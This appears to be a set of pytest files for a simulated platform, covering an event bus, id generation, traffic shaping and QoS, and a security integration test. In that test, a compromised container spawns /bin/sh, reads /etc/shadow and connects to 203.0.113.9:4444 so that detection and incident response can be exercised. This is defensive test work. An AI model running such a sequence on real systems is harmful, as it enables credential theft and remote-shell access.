        unsub()     # second call is a no-op, not an error
        bus.emit("t", "s", 0.0)
        assert not seen

    def test_duplicate_registration_on_same_topic(self):
        """Same handler twice on one topic: delivered twice, removable once."""
        bus = EventBus()
        seen = []
        first = bus.subscribe("t", seen.append)
        bus.subscribe("t", seen.append)
        bus.emit("t", "s", 0.0)
        assert len(seen) == 2
        first()
        bus.emit("t", "s", 1.0)
        assert len(seen) == 3


class TestIdGenerator:
    def test_sequential_per_prefix(self):
        gen = IdGenerator()
        assert gen.next("onu") == "onu-1"
        assert gen.next("onu") == "onu-2"
        assert gen.next("pod") == "pod-1"

    def test_peek_and_reset(self):
        gen = IdGenerator()
        gen.next("x")
        assert gen.peek("x") == 1
        gen.reset()
        assert gen.next("x") == "x-1"

    def test_empty_prefix_rejected(self):
        with pytest.raises(ValueError):
            IdGenerator().next("")

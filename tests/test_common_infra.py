"""Unit tests for clock, event bus, and id generation."""

import pytest

from repro.common.clock import SimClock
from repro.common.events import Event, EventBus
from repro.common.ids import IdGenerator


class TestSimClock:
    def test_starts_at_epoch(self):
        assert SimClock().now == 0.0

    def test_advance(self):
        clock = SimClock()
        clock.advance(2.5)
        assert clock.now == 2.5

    def test_advance_backwards_rejected(self):
        with pytest.raises(ValueError):
            SimClock().advance(-1)

    def test_negative_start_rejected(self):
        with pytest.raises(ValueError):
            SimClock(start=-1)

    def test_timers_fire_in_order(self):
        clock = SimClock()
        fired = []
        clock.call_at(5.0, lambda: fired.append(("b", clock.now)))
        clock.call_at(2.0, lambda: fired.append(("a", clock.now)))
        clock.advance(10.0)
        assert fired == [("a", 2.0), ("b", 5.0)]
        assert clock.now == 10.0

    def test_timer_not_due_does_not_fire(self):
        clock = SimClock()
        fired = []
        clock.call_later(5.0, lambda: fired.append(1))
        clock.advance(4.9)
        assert not fired
        assert clock.pending_timers() == 1

    def test_past_timer_rejected(self):
        clock = SimClock(start=10)
        with pytest.raises(ValueError):
            clock.call_at(5.0, lambda: None)

    def test_advance_to(self):
        clock = SimClock()
        clock.advance_to(7.0)
        assert clock.now == 7.0
        with pytest.raises(ValueError):
            clock.advance_to(3.0)


class TestEventBus:
    def test_exact_topic_delivery(self):
        bus = EventBus()
        seen = []
        bus.subscribe("host.syscall", seen.append)
        bus.emit("host.syscall", "host-1", 0.0, nr="open")
        bus.emit("host.file", "host-1", 0.0)
        assert len(seen) == 1
        assert seen[0].get("nr") == "open"

    def test_prefix_subscription(self):
        bus = EventBus()
        seen = []
        bus.subscribe("host", seen.append)
        bus.emit("host.syscall", "h", 0.0)
        bus.emit("host.file.write", "h", 0.0)
        bus.emit("pon.frame", "olt", 0.0)
        assert len(seen) == 2

    def test_wildcard_subscription(self):
        bus = EventBus()
        seen = []
        bus.subscribe("", seen.append)
        bus.emit("a", "s", 0.0)
        bus.emit("b.c", "s", 0.0)
        assert len(seen) == 2

    def test_prefix_requires_dot_boundary(self):
        bus = EventBus()
        seen = []
        bus.subscribe("host", seen.append)
        bus.emit("hostile.action", "x", 0.0)
        assert not seen

    def test_unsubscribe(self):
        bus = EventBus()
        seen = []
        unsub = bus.subscribe("t", seen.append)
        bus.emit("t", "s", 0.0)
        unsub()
        bus.emit("t", "s", 1.0)
        assert len(seen) == 1

    def test_history_filtering_and_replay(self):
        bus = EventBus()
        bus.emit("a.x", "s", 0.0)
        bus.emit("b.y", "s", 1.0)
        assert [e.topic for e in bus.history("a")] == ["a.x"]
        bus.clear_history()
        assert list(bus.history()) == []

    def test_history_is_bounded(self):
        bus = EventBus(history_limit=10)
        for i in range(25):
            bus.emit("t", "s", float(i))
        assert len(list(bus.history())) <= 11

    def test_event_payload_access(self):
        event = Event(topic="t", source="s", timestamp=1.0, payload={"k": 2})
        assert event.get("k") == 2
        assert event.get("missing", "d") == "d"


class TestEventBusHistoryBound:
    """Regression tests: the history bound must hold *exactly*.

    The original trim ran after append with ``del history[:limit // 2]``,
    which deletes zero elements when ``limit == 1`` — unbounded growth.
    """

    def test_bound_never_exceeded(self):
        bus = EventBus(history_limit=10)
        for i in range(100):
            bus.emit("t", "s", float(i))
            assert len(list(bus.history())) <= 10
        # the newest events are the ones retained
        assert list(bus.history())[-1].timestamp == 99.0

    def test_limit_of_one_is_bounded(self):
        bus = EventBus(history_limit=1)
        for i in range(50):
            bus.emit("t", "s", float(i))
        (event,) = bus.history()
        assert event.timestamp == 49.0

    def test_bound_holds_when_observed_from_a_handler(self):
        bus = EventBus(history_limit=4)
        sizes = []
        bus.subscribe("t", lambda e: sizes.append(len(list(bus.history()))))
        for i in range(20):
            bus.emit("t", "s", float(i))
        assert max(sizes) <= 4

    def test_unlimited_history_when_limit_zero(self):
        bus = EventBus(history_limit=0)
        for i in range(300):
            bus.emit("t", "s", float(i))
        assert len(list(bus.history())) == 300


class TestEventBusFilters:
    def test_predicate_filters_delivery(self):
        bus = EventBus()
        seen = []
        bus.subscribe("sensor", seen.append,
                      predicate=lambda e: e.get("level", 0) >= 3)
        bus.emit("sensor.t", "s", 0.0, level=1)
        bus.emit("sensor.t", "s", 1.0, level=3)
        bus.emit("sensor.t", "s", 2.0, level=7)
        assert [e.get("level") for e in seen] == [3, 7]

    def test_predicate_does_not_affect_other_subscribers(self):
        bus = EventBus()
        picky, greedy = [], []
        bus.subscribe("t", picky.append, predicate=lambda e: False)
        bus.subscribe("t", greedy.append)
        bus.emit("t", "s", 0.0)
        assert not picky and len(greedy) == 1

    def test_history_since(self):
        bus = EventBus()
        for i in range(5):
            bus.emit("t", "s", float(i))
        assert [e.timestamp for e in bus.history(since=3.0)] == [3.0, 4.0]

    def test_history_limit_keeps_newest_in_order(self):
        bus = EventBus()
        for i in range(5):
            bus.emit("t", "s", float(i))
        assert [e.timestamp for e in bus.history(limit=2)] == [3.0, 4.0]

    def test_history_since_and_limit_compose_with_topic(self):
        bus = EventBus()
        for i in range(6):
            bus.emit("a.x" if i % 2 == 0 else "b.y", "s", float(i))
        events = bus.history("a", since=1.0, limit=1)
        assert [(e.topic, e.timestamp) for e in events] == [("a.x", 4.0)]

    def test_history_negative_limit_rejected(self):
        bus = EventBus()
        with pytest.raises(ValueError):
            bus.history(limit=-1)


class TestEventBusUnsubscribeClosures:
    def test_two_topic_registrations_are_independent(self):
        """One subscriber on two topics -> two independent closures."""
        bus = EventBus()
        seen = []
        unsub_a = bus.subscribe("a", seen.append)
        unsub_b = bus.subscribe("b", seen.append)
        unsub_a()
        bus.emit("a", "s", 0.0)
        bus.emit("b", "s", 1.0)
        assert [e.topic for e in seen] == ["b"]
        unsub_b()
        bus.emit("b", "s", 2.0)
        assert len(seen) == 1

    def test_unsubscribe_is_idempotent(self):
        bus = EventBus()
        seen = []
        unsub = bus.subscribe("t", seen.append)
        unsub()
        unsub()     # second call is a no-op, not an error
        bus.emit("t", "s", 0.0)
        assert not seen

    def test_duplicate_registration_on_same_topic(self):
        """Same handler twice on one topic: delivered twice, removable once."""
        bus = EventBus()
        seen = []
        first = bus.subscribe("t", seen.append)
        bus.subscribe("t", seen.append)
        bus.emit("t", "s", 0.0)
        assert len(seen) == 2
        first()
        bus.emit("t", "s", 1.0)
        assert len(seen) == 3


class TestEventBusDeliveryPlan:
    """The cached-plan fast path must be invisible to subscribers."""

    def test_subscribe_after_publish_invalidates_cached_plan(self):
        bus = EventBus()
        first, second = [], []
        bus.subscribe("t", first.append)
        bus.emit("t", "s", 0.0)            # builds and caches the plan
        bus.subscribe("t", second.append)  # must invalidate it
        bus.emit("t", "s", 1.0)
        assert len(first) == 2
        assert len(second) == 1

    def test_unsubscribe_after_publish_invalidates_cached_plan(self):
        bus = EventBus()
        seen = []
        unsub = bus.subscribe("t", seen.append)
        bus.emit("t", "s", 0.0)
        unsub()
        bus.emit("t", "s", 1.0)
        assert len(seen) == 1

    def test_prefix_match_still_applies_to_new_concrete_topics(self):
        bus = EventBus()
        seen = []
        bus.subscribe("host", seen.append)
        bus.emit("host.syscall", "h", 0.0)
        bus.emit("host.file", "h", 1.0)    # different concrete topic
        assert [e.topic for e in seen] == ["host.syscall", "host.file"]

    def test_unsubscribe_during_delivery_keeps_snapshot(self):
        """Mid-delivery unsubscribes take effect from the *next* publish,
        matching the old copy-the-handler-list semantics."""
        bus = EventBus()
        seen = []
        unsubs = {}
        bus.subscribe("t", lambda e: unsubs["late"]())
        unsubs["late"] = bus.subscribe("t", seen.append)
        bus.emit("t", "s", 0.0)    # late still sees the in-flight event
        bus.emit("t", "s", 1.0)    # but not later ones
        assert len(seen) == 1

    def test_unsubscribed_registrations_are_compacted_away(self):
        """Unsubscribe tombstones; bulk churn compacts the pattern table."""
        bus = EventBus()
        unsubs = [bus.subscribe("t", lambda e: None) for _ in range(20)]
        for unsub in unsubs:
            unsub()
            unsub()    # idempotent under tombstoning too
        assert sum(1 for s in bus._subscribers["t"] if s.active) == 0
        assert len(bus._subscribers["t"]) < 20
        bus.emit("t", "s", 0.0)    # and the bus still publishes fine

    def test_live_subscribers_survive_compaction(self):
        bus = EventBus()
        seen = []
        bus.subscribe("t", seen.append)
        unsubs = [bus.subscribe("t", lambda e: None) for _ in range(30)]
        for unsub in unsubs:
            unsub()
        bus.emit("t", "s", 0.0)
        assert len(seen) == 1


class TestEventBusPublishBatch:
    def test_matches_sequential_publishes(self):
        events = ([Event("a.x", "s", float(i), {"i": i}) for i in range(3)]
                  + [Event("b", "s", 3.0)])
        batch_bus, seq_bus = EventBus(), EventBus()
        batch_seen, seq_seen = [], []
        for bus, seen in ((batch_bus, batch_seen), (seq_bus, seq_seen)):
            bus.subscribe("a", seen.append)
            bus.subscribe("", seen.append)
        delivered = batch_bus.publish_batch(events)
        for event in events:
            seq_bus.publish(event)
        assert batch_seen == seq_seen
        assert delivered == len(seq_seen)
        assert list(batch_bus.history()) == list(seq_bus.history())

    def test_empty_batch_is_a_noop(self):
        bus = EventBus()
        assert bus.publish_batch([]) == 0
        assert list(bus.history()) == []

    def test_predicates_apply_per_event(self):
        bus = EventBus()
        seen = []
        bus.subscribe("t", seen.append,
                      predicate=lambda e: e.get("level", 0) >= 2)
        bus.publish_batch([Event("t", "s", float(i), {"level": i})
                           for i in range(4)])
        assert [e.get("level") for e in seen] == [2, 3]

    def test_history_bound_holds_for_oversized_batch(self):
        bus = EventBus(history_limit=10)
        bus.publish_batch([Event("t", "s", float(i)) for i in range(25)])
        retained = list(bus.history())
        assert len(retained) == 10
        assert retained[-1].timestamp == 24.0

    def test_history_bound_holds_across_batches(self):
        bus = EventBus(history_limit=10)
        for start in range(0, 40, 4):
            bus.publish_batch([Event("t", "s", float(start + i))
                               for i in range(4)])
            assert len(list(bus.history())) <= 10
        assert list(bus.history())[-1].timestamp == 39.0

    def test_unlimited_history_when_limit_zero(self):
        bus = EventBus(history_limit=0)
        bus.publish_batch([Event("t", "s", float(i)) for i in range(300)])
        assert len(list(bus.history())) == 300

    def test_handler_sees_the_whole_batch_in_history(self):
        bus = EventBus()
        sizes = []
        bus.subscribe("t", lambda e: sizes.append(len(list(bus.history()))))
        bus.publish_batch([Event("t", "s", float(i)) for i in range(5)])
        assert sizes == [5] * 5

    def test_metrics_match_per_event_publishes(self):
        from repro.common.telemetry import MetricsRegistry
        events = ([Event("a.x", "s", 0.0)] * 3 + [Event("b", "s", 1.0)])
        batch_registry, seq_registry = MetricsRegistry(), MetricsRegistry()
        batch_bus = EventBus(metrics=batch_registry)
        seq_bus = EventBus(metrics=seq_registry)
        for bus in (batch_bus, seq_bus):
            bus.subscribe("a", lambda e: None)
        batch_bus.publish_batch(events)
        for event in events:
            seq_bus.publish(event)
        for metric in ("bus_events_total", "bus_deliveries_total"):
            for topic in ("a.x", "b"):
                assert (batch_registry.get(metric)
                        .labels(topic=topic).value
                        == seq_registry.get(metric)
                        .labels(topic=topic).value)


class TestIdGenerator:
    def test_sequential_per_prefix(self):
        gen = IdGenerator()
        assert gen.next("onu") == "onu-1"
        assert gen.next("onu") == "onu-2"
        assert gen.next("pod") == "pod-1"

    def test_peek_and_reset(self):
        gen = IdGenerator()
        gen.next("x")
        assert gen.peek("x") == 1
        gen.reset()
        assert gen.next("x") == "x-1"

    def test_empty_prefix_rejected(self):
        with pytest.raises(ValueError):
            IdGenerator().next("")

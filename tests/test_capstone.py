"""Capstone integration: one attack story across the whole secured stack.

A single narrative exercised end to end on a pipeline-secured deployment:
a tenant workload is compromised at runtime, the monitor detects it, the
responder contains it, the correlator reconstructs the campaign, the
forensic collector seals the evidence, and the security report still
renders a coherent posture afterwards.
"""

import pytest

from repro.orchestrator.kube.objects import PodSpec
from repro.platform import build_genio_deployment, vulnerable_webapp_image
from repro.security.monitor import ForensicCollector, IncidentResponder, correlate, triage
from repro.security.pipeline import SecurityPipeline
from repro.security.report import generate_report


@pytest.fixture(scope="module")
def story():
    deployment = build_genio_deployment(n_olts=1, onus_per_olt=2)
    posture = SecurityPipeline(deployment).apply()

    # Tenant deploys a (passing-enough) workload...
    pod = deployment.cloud_cluster.schedule(PodSpec(
        name="storefront", namespace="tenant-a",
        image=vulnerable_webapp_image(), tenant="tenant-a"))
    runtime = deployment.cloud_cluster.nodes[pod.node].runtime
    responder = IncidentResponder(runtime, posture.falco)

    # ...which gets popped: classic post-exploitation sequence.
    runtime.syscall(pod.container_id, "execve", path="/bin/sh")
    runtime.syscall(pod.container_id, "open", path="/etc/shadow")
    responder.process_new_alerts()
    runtime.syscall(pod.container_id, "connect", dst="203.0.113.9:4444")
    responder.process_new_alerts()
    return deployment, posture, pod, runtime, responder


class TestAttackStory:
    def test_monitor_saw_the_whole_sequence(self, story):
        _, posture, *_ = story
        fired = posture.falco.alerts_by_rule()
        assert fired.get("shell_in_container")
        assert fired.get("sensitive_file_read")

    def test_responder_contained_and_quarantined(self, story):
        _, _, pod, runtime, responder = story
        container = runtime.containers[pod.container_id]
        assert not container.running
        assert "incident response" in container.kill_reason
        assert "tenant-a" in responder.quarantined_tenants

    def test_correlation_reconstructs_the_campaign(self, story):
        _, posture, *_ = story
        incidents = correlate(posture.falco.alerts)
        campaign = next(i for i in incidents if i.key == "tenant-a")
        assert campaign.is_campaign
        assert "execution" in campaign.stages
        assert "escalation" in campaign.stages
        assert campaign in triage(incidents)["respond"]

    def test_forensics_bundle_seals_the_evidence(self, story):
        deployment, posture, *_ = story
        incidents = correlate(posture.falco.alerts)
        campaign = next(i for i in incidents if i.key == "tenant-a")
        collector = ForensicCollector(deployment.bus)
        bundle = collector.collect(campaign)
        collector.verify(bundle)
        assert bundle.events and bundle.alerts
        topics = {e["topic"] for e in bundle.events}
        assert "runtime.syscall" in topics

    def test_platform_still_coherent_afterwards(self, story):
        deployment, posture, *_ = story
        # Boot integrity untouched by the app-level incident:
        for host in deployment.all_hosts():
            host.boot()
            assert posture.boot.attest_host(host).trusted
        # Report renders; the incident doesn't invalidate the posture.
        report = generate_report(posture)
        assert "GENIO PLATFORM SECURITY REPORT" in report.render()

    def test_other_tenant_unaffected(self, story):
        deployment, *_ = story
        from repro.platform import ml_inference_image
        pod = deployment.cloud_cluster.schedule(PodSpec(
            name="innocent", namespace="tenant-b",
            image=ml_inference_image(), tenant="tenant-b"))
        assert pod.phase == "Running"

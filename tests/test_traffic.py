"""Tests for the traffic plane: profiles, token buckets, DBA, QoS, loadgen.

The property-based classes pin the invariants the E18 fairness claims
rest on: a token bucket never exceeds its rate over any window, and the
DBA scheduler is capacity-bounded, work-conserving and starvation-free.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.common import telemetry
from repro.common.events import EventBus
from repro.security.monitor import LiveCorrelator, ResourceAbuseDetector
from repro.traffic import (
    DbaScheduler, LoadGenerator, QosEnforcer, Request, TenantSpec,
    TokenBucket, TrafficTelemetry, jain_index, make_profile,
    run_genio_traffic, run_traffic_experiment,
)
from repro.traffic.telemetry import CPU_SHARE_GAUGE, OFFERED_SHARE_GAUGE


@pytest.fixture(autouse=True)
def _fresh_defaults():
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)
    yield
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)


# ---------------------------------------------------------------------------
# Workload profiles
# ---------------------------------------------------------------------------


class TestProfiles:
    def test_same_seed_replays_identically(self):
        runs = []
        for _ in range(2):
            profile = make_profile("bursty", "tenant-a", 100e6, seed=7)
            runs.append([tuple((r.size_bytes, r.issued_at)
                               for r in profile.batch(t * 0.02, 0.02))
                         for t in range(20)])
        assert runs[0] == runs[1]

    def test_seed_changes_the_stream(self):
        a = make_profile("steady", "tenant-a", 100e6, seed=1).batch(0.0, 0.1)
        b = make_profile("steady", "tenant-a", 100e6, seed=2).batch(0.0, 0.1)
        assert [r.size_bytes for r in a] != [r.size_bytes for r in b]

    def test_steady_tracks_nominal_rate(self):
        profile = make_profile("steady", "tenant-a", 80e6, seed=0)
        total = sum(r.size_bytes
                    for t in range(50) for r in profile.batch(t * 0.02, 0.02))
        assert total == pytest.approx(80e6 / 8 * 1.0, rel=0.05)

    def test_hostile_floods_far_beyond_rate(self):
        steady = make_profile("steady", "t", 100e6, seed=0)
        hostile = make_profile("hostile", "t", 100e6, seed=0)
        steady_bytes = sum(r.size_bytes for r in steady.batch(0.0, 0.1))
        hostile_bytes = sum(r.size_bytes for r in hostile.batch(0.0, 0.1))
        assert hostile_bytes > 10 * steady_bytes

    def test_diurnal_swings_across_the_day(self):
        profile = make_profile("diurnal", "t", 100e6, seed=0, day_s=2.0)
        rates = [profile.offered_bps(t * 0.1) for t in range(20)]
        assert max(rates) > 1.5 * min(rates)

    def test_unknown_kind_rejected(self):
        with pytest.raises(ValueError, match="unknown profile kind"):
            make_profile("chaotic", "t", 1e6)


# ---------------------------------------------------------------------------
# Token bucket: never exceeds rate over any window
# ---------------------------------------------------------------------------


class TestTokenBucketProperties:
    @given(st.lists(st.tuples(st.floats(min_value=0.0, max_value=0.5),
                              st.integers(min_value=1, max_value=200_000)),
                    min_size=1, max_size=60),
           st.floats(min_value=1e6, max_value=1e9),
           st.integers(min_value=1_000, max_value=1_000_000))
    @settings(max_examples=60, deadline=None)
    def test_admitted_bounded_by_burst_plus_rate(self, steps, rate_bps, burst):
        bucket = TokenBucket(rate_bps, burst)
        now, admitted = 0.0, 0
        for dt, size in steps:
            now += dt
            if bucket.allow(size, now):
                admitted += size
        assert admitted <= burst + rate_bps / 8.0 * now + 1e-6

    def test_refill_after_wait(self):
        bucket = TokenBucket(rate_bps=8e6, burst_bytes=1000)   # 1 MB/s
        assert bucket.allow(1000, 0.0)
        assert not bucket.allow(1000, 0.0)
        assert bucket.allow(1000, 0.001)    # 1 ms refills 1000 bytes

    def test_tokens_never_exceed_burst(self):
        bucket = TokenBucket(rate_bps=8e9, burst_bytes=500)
        bucket.allow(0, 100.0)
        assert bucket.tokens == 500


# ---------------------------------------------------------------------------
# DBA scheduler invariants
# ---------------------------------------------------------------------------

_tcont_setup = st.lists(
    st.tuples(st.integers(min_value=0, max_value=3),      # priority
              st.floats(min_value=0.5, max_value=8.0),    # weight
              st.integers(min_value=0, max_value=500_000)),  # backlog bytes
    min_size=1, max_size=12)


def _loaded_scheduler(setup, policy="fair"):
    scheduler = DbaScheduler(policy=policy)
    tconts = []
    for index, (priority, weight, backlog) in enumerate(setup):
        tcont = scheduler.register_tcont(f"ONU{index}", f"tenant-{index}",
                                         priority=priority, weight=weight)
        if backlog:
            tcont.offer(Request(tenant=tcont.tenant, size_bytes=backlog,
                                issued_at=0.0))
        tconts.append(tcont)
    return scheduler, tconts


class TestDbaProperties:
    @given(_tcont_setup, st.integers(min_value=0, max_value=2_000_000))
    @settings(max_examples=80, deadline=None)
    def test_grants_within_capacity_and_backlog(self, setup, capacity):
        scheduler, tconts = _loaded_scheduler(setup)
        grants = scheduler.grant(capacity)
        assert sum(grants.values()) <= capacity
        for tcont in tconts:
            assert grants.get(tcont.alloc_id, 0) <= tcont.queued_bytes

    @given(_tcont_setup, st.integers(min_value=0, max_value=2_000_000))
    @settings(max_examples=80, deadline=None)
    def test_work_conserving(self, setup, capacity):
        scheduler, _ = _loaded_scheduler(setup)
        backlog = scheduler.total_backlog()
        grants = scheduler.grant(capacity)
        assert sum(grants.values()) == min(capacity, backlog)

    @given(_tcont_setup.filter(lambda s: any(b for _, _, b in s)))
    @settings(max_examples=80, deadline=None)
    def test_starvation_free_across_priorities(self, setup):
        scheduler, tconts = _loaded_scheduler(setup)
        backlogged = [t for t in tconts if t.queued_bytes > 0]
        grants = scheduler.grant(capacity_bytes=100_000)
        for tcont in backlogged:
            assert grants[tcont.alloc_id] > 0, \
                f"priority-{tcont.priority} T-CONT starved"

    @given(_tcont_setup, st.integers(min_value=0, max_value=2_000_000))
    @settings(max_examples=40, deadline=None)
    def test_proportional_policy_also_work_conserving(self, setup, capacity):
        scheduler, _ = _loaded_scheduler(setup, policy="proportional")
        backlog = scheduler.total_backlog()
        grants = scheduler.grant(capacity)
        assert sum(grants.values()) == min(capacity, backlog)


class TestDbaBehaviour:
    def test_strict_priority_dominates_beyond_guarantee(self):
        scheduler = DbaScheduler(guaranteed_share=0.1)
        high = scheduler.register_tcont("ONU1", "t-high", priority=0)
        low = scheduler.register_tcont("ONU2", "t-low", priority=3)
        high.offer(Request("t-high", 100_000, 0.0))
        low.offer(Request("t-low", 100_000, 0.0))
        grants = scheduler.grant(100_000)
        assert grants[high.alloc_id] > 0.85 * 100_000
        assert grants[low.alloc_id] > 0            # guaranteed quantum

    def test_weighted_fair_within_tier(self):
        scheduler = DbaScheduler(guaranteed_share=0.0)
        heavy = scheduler.register_tcont("ONU1", "t-3x", priority=2, weight=3.0)
        light = scheduler.register_tcont("ONU2", "t-1x", priority=2, weight=1.0)
        heavy.offer(Request("t-3x", 1_000_000, 0.0))
        light.offer(Request("t-1x", 1_000_000, 0.0))
        grants = scheduler.grant(400_000)
        ratio = grants[heavy.alloc_id] / grants[light.alloc_id]
        assert ratio == pytest.approx(3.0, rel=0.05)

    def test_proportional_policy_rewards_demand(self):
        scheduler = DbaScheduler(policy="proportional")
        greedy = scheduler.register_tcont("ONU1", "t-greedy")
        modest = scheduler.register_tcont("ONU2", "t-modest")
        greedy.offer(Request("t-greedy", 900_000, 0.0))
        modest.offer(Request("t-modest", 100_000, 0.0))
        grants = scheduler.grant(500_000)
        assert grants[greedy.alloc_id] > 4 * grants[modest.alloc_id]

    def test_partial_grant_fragments_request(self):
        scheduler = DbaScheduler()
        tcont = scheduler.register_tcont("ONU1", "t")
        tcont.offer(Request("t", 1000, issued_at=0.0))
        sent, completed = tcont.drain(400, now=1.0)
        assert sent == 400 and completed == []
        sent, completed = tcont.drain(600, now=2.0)
        assert sent == 600
        assert len(completed) == 1
        assert completed[0].latency_s == 2.0

    def test_grant_cycle_event_on_bus(self):
        bus = EventBus()
        scheduler = DbaScheduler(bus=bus)
        scheduler.register_tcont("ONU1", "t").offer(Request("t", 500, 0.0))
        scheduler.grant(1000, now=3.0)
        events = list(bus.history("pon.dba.grant"))
        assert len(events) == 1
        assert events[0].get("granted_bytes") == 500


# ---------------------------------------------------------------------------
# QoS enforcement
# ---------------------------------------------------------------------------


class TestQosEnforcer:
    def test_admit_queue_drop_progression(self):
        qos = QosEnforcer()
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=1000,
                       queue_limit_bytes=2000)
        assert qos.submit(Request("t", 1000, 0.0), now=0.0) == "admitted"
        assert qos.submit(Request("t", 1000, 0.0), now=0.0) == "queued"
        assert qos.submit(Request("t", 1000, 0.0), now=0.0) == "queued"
        assert qos.submit(Request("t", 1000, 0.0), now=0.0) == "dropped"
        assert qos.policy("t").dropped_requests == 1

    def test_queued_requests_released_in_order(self):
        qos = QosEnforcer()
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=1000,
                       queue_limit_bytes=10_000)
        first = Request("t", 1000, 0.0)
        second = Request("t", 600, 0.0)
        third = Request("t", 400, 0.0)
        assert qos.submit(first, 0.0) == "admitted"
        assert qos.submit(second, 0.0) == "queued"
        assert qos.submit(third, 0.0) == "queued"
        released = qos.admit([], now=0.001)      # 1 ms => 1000 fresh tokens
        assert released == [second, third]

    def test_backpressure_asserted_and_cleared(self):
        bus = EventBus()
        qos = QosEnforcer(bus=bus)
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=1000,
                       queue_limit_bytes=2000)
        qos.submit(Request("t", 1000, 0.0), now=0.0)
        qos.submit(Request("t", 1000, 0.0), now=0.0)
        qos.submit(Request("t", 1000, 0.0), now=0.0)   # queue at 100%
        qos.admit([], now=0.01)                        # refill drains it
        states = [e.get("state") for e in bus.history("qos.backpressure")]
        assert states == ["asserted", "cleared"]

    def test_drop_events_aggregated_per_cycle(self):
        bus = EventBus()
        qos = QosEnforcer(bus=bus)
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=100,
                       queue_limit_bytes=100)
        for _ in range(5):
            qos.submit(Request("t", 400, 0.0), now=0.0)
        qos.cycle_end(now=0.02)
        drops = list(bus.history("qos.drop"))
        assert len(drops) == 1
        assert drops[0].get("dropped") == 5

    def test_outcomes_feed_tenant_labelled_counters(self):
        registry = telemetry.MetricsRegistry()
        qos = QosEnforcer(registry=registry)
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=1000,
                       queue_limit_bytes=500)
        qos.submit(Request("t", 1000, 0.0), now=0.0)
        qos.submit(Request("t", 600, 0.0), now=0.0)     # over limit: dropped
        counter = registry.get("traffic_requests_total")
        assert counter.labels(tenant="t", direction="upstream",
                              outcome="admitted").value == 1
        assert counter.labels(tenant="t", direction="upstream",
                              outcome="dropped").value == 1

    def test_queued_counts_in_transient_family_only(self):
        registry = telemetry.MetricsRegistry()
        qos = QosEnforcer(registry=registry)
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=1000,
                       queue_limit_bytes=2000)
        qos.submit(Request("t", 1000, 0.0), now=0.0)     # admitted
        qos.submit(Request("t", 800, 0.0), now=0.0)      # queued
        queued = registry.get("traffic_queued_requests_total")
        assert queued.labels(tenant="t", direction="upstream").value == 1
        # The queued request is NOT a terminal outcome yet.
        assert registry.get("traffic_requests_total").total() == 1
        released = qos.admit([], now=0.01)               # refill releases it
        assert len(released) == 1
        counter = registry.get("traffic_requests_total")
        assert counter.labels(tenant="t", direction="upstream",
                              outcome="released").value == 1
        assert counter.total() == 2

    def test_duplicate_tenant_rejected(self):
        qos = QosEnforcer()
        qos.add_tenant("t", rate_bps=1e6)
        with pytest.raises(ValueError):
            qos.add_tenant("t", rate_bps=1e6)


class TestQosCycleDropBytes:
    """Regression: ``qos.drop`` must carry *per-cycle* dropped bytes.

    The original payload published the lifetime ``policy.dropped_bytes``
    next to the per-cycle ``dropped`` count, so every cycle's event
    re-reported all drops since the start of the run.
    """

    def test_dropped_bytes_reset_between_cycles(self):
        bus = EventBus()
        qos = QosEnforcer(bus=bus)
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=100,
                       queue_limit_bytes=100)
        for _ in range(2):
            qos.submit(Request("t", 400, 0.0), now=0.0)
        qos.cycle_end(now=0.02)
        qos.submit(Request("t", 300, 0.03), now=0.03)
        qos.cycle_end(now=0.04)
        drops = list(bus.history("qos.drop"))
        assert [e.get("dropped") for e in drops] == [2, 1]
        assert [e.get("dropped_bytes") for e in drops] == [800, 300]
        # the lifetime total still rides along, under its own key
        assert [e.get("dropped_bytes_total") for e in drops] == [800, 1100]

    def test_cycle_counters_reset_without_a_bus_too(self):
        qos = QosEnforcer()
        qos.add_tenant("t", rate_bps=8e6, burst_bytes=100,
                       queue_limit_bytes=100)
        qos.submit(Request("t", 400, 0.0), now=0.0)
        qos.cycle_end(now=0.02)
        policy = qos.policy("t")
        assert policy._cycle_drops == 0
        assert policy._cycle_drop_bytes == 0
        assert policy.dropped_bytes == 400


class TestQosBackpressureBoundaries:
    """Hysteresis boundary semantics: >= HIGH asserts, <= LOW clears."""

    @staticmethod
    def _tenant(bus):
        # 1000 B/s refill, bucket and queue both 1000 bytes deep.
        qos = QosEnforcer(bus=bus)
        qos.add_tenant("t", rate_bps=8000, burst_bytes=1000,
                       queue_limit_bytes=1000)
        return qos

    def test_fill_exactly_at_high_watermark_asserts(self):
        bus = EventBus()
        qos = self._tenant(bus)
        assert qos.submit(Request("t", 1000, 0.0), now=0.0) == "admitted"
        assert qos.submit(Request("t", 500, 0.0), now=0.0) == "queued"
        assert not list(bus.history("qos.backpressure"))    # 0.5 < HIGH
        assert qos.submit(Request("t", 300, 0.0), now=0.0) == "queued"
        (event,) = bus.history("qos.backpressure")
        assert event.get("state") == "asserted"
        assert event.get("queue_fill") == QosEnforcer.HIGH_WATERMARK
        assert qos.policy("t").backpressured

    def test_fill_exactly_at_low_watermark_clears(self):
        bus = EventBus()
        qos = self._tenant(bus)
        qos.submit(Request("t", 1000, 0.0), now=0.0)    # drains the bucket
        qos.submit(Request("t", 300, 0.0), now=0.0)
        qos.submit(Request("t", 500, 0.0), now=0.0)     # fill 0.8: asserted
        # t=0.3 refills exactly 300 tokens: only the 300-byte head drains,
        # leaving the queue at precisely the LOW watermark.
        qos.admit([], now=0.3)
        states = [e.get("state") for e in bus.history("qos.backpressure")]
        assert states == ["asserted", "cleared"]
        cleared = list(bus.history("qos.backpressure"))[-1]
        assert cleared.get("queue_fill") == QosEnforcer.LOW_WATERMARK
        assert not qos.policy("t").backpressured

    def test_no_duplicate_events_on_repeated_crossings(self):
        bus = EventBus()
        qos = self._tenant(bus)
        qos.submit(Request("t", 1000, 0.0), now=0.0)
        qos.submit(Request("t", 500, 0.0), now=0.0)
        qos.submit(Request("t", 300, 0.0), now=0.0)     # asserted at 0.8
        qos.submit(Request("t", 200, 0.0), now=0.0)     # fill 1.0: no dup
        qos.admit([], now=0.5)                          # cleared at 0.5
        qos.submit(Request("t", 300, 0.5), now=0.5)     # fill 0.8 again
